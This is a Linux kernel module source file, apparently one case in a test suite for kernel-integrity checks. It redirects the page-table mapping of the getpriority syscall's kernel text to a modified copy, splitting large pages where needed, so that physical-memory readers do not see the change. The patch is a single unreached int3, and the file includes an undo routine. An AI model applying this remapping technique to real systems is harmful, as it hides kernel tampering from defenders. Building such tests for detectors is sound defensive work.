// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * A page of the kernel's text is another page of memory, with other bytes: the page tables lead
 * there, the page itself is as it was. Readers of physical memory see nothing.
 */
#include "attack.h"

#include <asm/pgtable.h>
#include <asm/tlbflush.h>

static pte_t *entries, *old_table;
static pmd_t *pmd, original_pmd;
static struct page *table, *copy;
static unsigned long page_address_of_text;

static int attack(void)
{
	pte_t *(*lookup)(unsigned long address, unsigned int *level) =
		function("lookup_address", *lookup);
	unsigned long target = symbol("__x64_sys_getpriority");
	unsigned int level, index;
	pte_t *entry;
	u64 value;

	if (!target || !lookup)
		return -ENOENT;
	page_address_of_text = target & PAGE_MASK;
	entry = lookup(page_address_of_text, &level);
	if (!entry)
		return -ENXIO;
	copy = alloc_page(GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	memcpy(page_address(copy), (void *)page_address_of_text, PAGE_SIZE);
	/* The first instruction after the place of ftrace becomes an int3 that nobody reaches. */
	memset(page_address(copy) + (target & ~PAGE_MASK) + 32, 0xcc, 1);
	if (level == PG_LEVEL_4K) {
		old_table = entry;
		value = (pte_val(*entry) & ~PTE_PFN_MASK) | page_to_phys(copy);
		original_pmd = __pmd(pte_val(*entry));
		write_protected(entry, &value, sizeof(value));
	} else {
		u64 large;

		/* A large page is split: a table of small ones, one of which is ours. */
		table = alloc_page(GFP_KERNEL | __GFP_ZERO);
		if (!table)
			return -ENOMEM;
		entries = page_address(table);
		pmd = (pmd_t *)entry;
		original_pmd = *pmd;
		large = pmd_val(original_pmd);
		for (index = 0; index < 512; index++)
			entries[index] =
				__pte(((large & PTE_PFN_MASK & PMD_MASK) + index * PAGE_SIZE) |
				      (large & ~PTE_PFN_MASK & ~_PAGE_PSE));
		index = (page_address_of_text >> PAGE_SHIFT) & 511;
		entries[index] = __pte(page_to_phys(copy) | (large & ~PTE_PFN_MASK & ~_PAGE_PSE));
		value = page_to_phys(table) | _KERNPG_TABLE;
		write_protected(pmd, &value, sizeof(value));
	}
	on_each_cpu(flush_translations, NULL, 1);
	return 0;
}

static void undo(void)
{
	write_protected(old_table ? (void *)old_table : (void *)pmd, &original_pmd,
			sizeof(original_pmd));
	on_each_cpu(flush_translations, NULL, 1);
	__free_page(copy);
	if (table)
		__free_page(table);
}

ATTACK("a page of text mapped to other memory");
